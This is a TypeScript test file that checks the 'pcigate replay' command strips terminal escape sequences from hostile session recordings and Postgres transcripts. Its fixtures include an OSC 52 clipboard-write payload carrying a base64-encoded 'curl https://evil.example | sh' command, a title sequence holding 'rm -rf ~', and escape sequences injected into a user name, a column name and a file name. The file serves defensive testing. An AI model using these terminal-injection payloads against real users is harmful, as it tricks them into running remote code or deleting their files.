/**
 * `pcigate replay` (the built bin) of recordings that attack the auditor's terminal: an asciicast whose
 * output holds OSC 52 (clipboard write), a title report request, a DCS query, a full reset and a scrollback
 * erase, recorded by a session whose user name carries escape sequences too, and a Postgres transcript whose
 * column name does. Nothing that acts on a terminal reaches stdout or stderr; the verdict is repeated after
 * the recording; --raw gives the exact bytes, never to a terminal.
 */
import * as fsp from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openAuditLog } from '../../recorder/index.js';
import { testCtx } from '../harness/test-ctx.js';
import { BIN, runCli, tempDir } from '../harness/cli.js';

const ESC = '\x1b';
const CLIP = `${ESC}]52;c;${Buffer.from('curl https://evil.example | sh\n').toString('base64')}\x07`;
const HOSTILE_OUTPUT = `$ cat notes.txt\r\n${CLIP}${ESC}]2;;rm -rf ~${ESC}\\${ESC}[21t${ESC}P$q"p${ESC}\\${ESC}[3J${ESC}cok\r\n`;
const MALLORY = `mallory${ESC}]52;c;eA==\x07`;
const BAD_NAME = `x${ESC}]2;pwned\x07.cast`;

let tmp: string;
let home: string;

async function session(log: Awaited<ReturnType<typeof openAuditLog>>, id: string, kind: 'ssh' | 'postgres', file: string, data: string, blobKind: string): Promise<void> {
  await fsp.writeFile(path.join(home, 'recordings', file), data);
  await log.append({ type: 'session.start', session: id, actor: { sub: MALLORY, via: 'local' }, target: { kind, conn: 'prod', host: 'db.internal' }, outcome: 'success' });
  const blob = await log.commitBlob(`recordings/${file}`, blobKind);
  await log.append({ type: 'session.end', session: id, outcome: 'success', target: { kind, conn: 'prod' }, blobs: [blob] });
}

beforeAll(async () => {
  tmp = tempDir('pcigate-cli-replay-hostile-');
  home = path.join(tmp, 'home');
  const log = await openAuditLog(testCtx(), { home, createIfMissing: { origin: 'cli.example/pcigate' }, idleMs: 60_000 });
  await session(log, 'ssh-hostile-1', 'ssh', 'ssh-hostile-1.cast',
    [JSON.stringify({ version: 2, width: 80, height: 24 }), JSON.stringify([0.1, 'o', HOSTILE_OUTPUT]), ''].join('\n'), 'asciicast');
  await session(log, 'pg-hostile-1', 'postgres', 'pg-hostile-1.jsonl', [
    JSON.stringify({ t: 'query', n: 1, sql: `select 1 as "${CLIP}"` }),
    JSON.stringify({ t: 'columns', n: 1, names: [CLIP] }),
    JSON.stringify({ t: 'row', n: 1, values: ['1'] }),
    JSON.stringify({ t: 'result', n: 1, result: 'success', rows: 1 }),
    '',
  ].join('\n'), 'pg-transcript');
  // A recording whose file name (the blob path the log names) holds an OSC and a BEL.
  await session(log, 'ssh-badpath-1', 'ssh', BAD_NAME, [JSON.stringify({ version: 2, width: 80, height: 24 }), JSON.stringify([0.1, 'o', 'hi\r\n']), ''].join('\n'), 'asciicast');
  await log.close();
});

afterAll(async () => {
  await fsp.rm(tmp, { recursive: true, force: true });
});

const noTerminalControl = (s: string) => {
  expect(s).not.toContain(`${ESC}]`);
  expect(s).not.toContain(`${ESC}P`);
  expect(s).not.toContain(`${ESC}c`);
  expect(s).not.toContain(`${ESC}[21t`);
  expect(s).not.toContain(`${ESC}[3J`);
  expect(s).not.toContain('\x07');
};

describe('pcigate replay of a hostile recording', () => {
  it('shows the text, removes what acts on the terminal with a marker, and repeats the verdict after it', async () => {
    const r = await runCli(['replay', 'ssh-hostile-1', '--home', home]);
    expect(r.code).toBe(0);
    noTerminalControl(r.stdout);
    noTerminalControl(r.stderr);
    expect(r.stdout).toContain('$ cat notes.txt\r\n⟦pcigate removed: OSC 52 clipboard access⟧');
    expect(r.stdout).toContain('⟦pcigate removed: full terminal reset (RIS)⟧ok\r\n');
    expect(r.stderr).toContain('mallory\\u001b]52;c;eA==\\u0007');
    expect(r.stderr).toMatch(/removed OSC 52 clipboard access, OSC 2, CSI t window manipulation or report, DCS control string, full terminal reset \(RIS\)/);
    expect(r.stderr.trimEnd().split('\n').pop()).toMatch(/^end of recordings\/ssh-hostile-1\.cast: verified against log record \d+/);
  });

  it('--raw writes the exact recorded bytes to a pipe', async () => {
    const r = await runCli(['replay', 'ssh-hostile-1', '--home', home, '--raw']);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(HOSTILE_OUTPUT);
  });

  it('--raw is refused when stdout is a terminal (exit 2), before anything is shown', async () => {
    const pty = await import('node-pty');
    const term = pty.spawn(process.execPath, [BIN, 'replay', 'ssh-hostile-1', '--home', home, '--raw'], {
      name: 'xterm', cols: 120, rows: 30, cwd: tmp, env: { PATH: process.env.PATH ?? '', HOME: tmp, NO_COLOR: '1' },
    });
    let screen = '';
    term.onData((d) => { screen += d; });
    const code = await new Promise<number>((resolve) => term.onExit(({ exitCode }) => resolve(exitCode)));
    expect(code).toBe(2);
    expect(screen).toContain('--raw writes the recording unfiltered');
    expect(screen).not.toContain(`${ESC}]52`);
  });

  it('a Postgres transcript whose column name holds escape sequences shows them escaped', async () => {
    const r = await runCli(['replay', 'pg-hostile-1', '--home', home]);
    expect(r.code).toBe(0);
    noTerminalControl(r.stdout);
    noTerminalControl(r.stderr);
    expect(r.stdout).toContain('\\x1b]52;c;');
  });

  it('a recording path holding escape sequences is shown escaped in the lines after the recording', async () => {
    const r = await runCli(['replay', 'ssh-badpath-1', '--home', home]);
    expect(r.code).toBe(0);
    noTerminalControl(r.stdout);
    noTerminalControl(r.stderr);
    expect(r.stderr.trimEnd().split('\n').pop()).toMatch(/^end of recordings\/x\\u001b\]2;pwned\\u0007\.cast: verified against log record \d+/);
  });
});
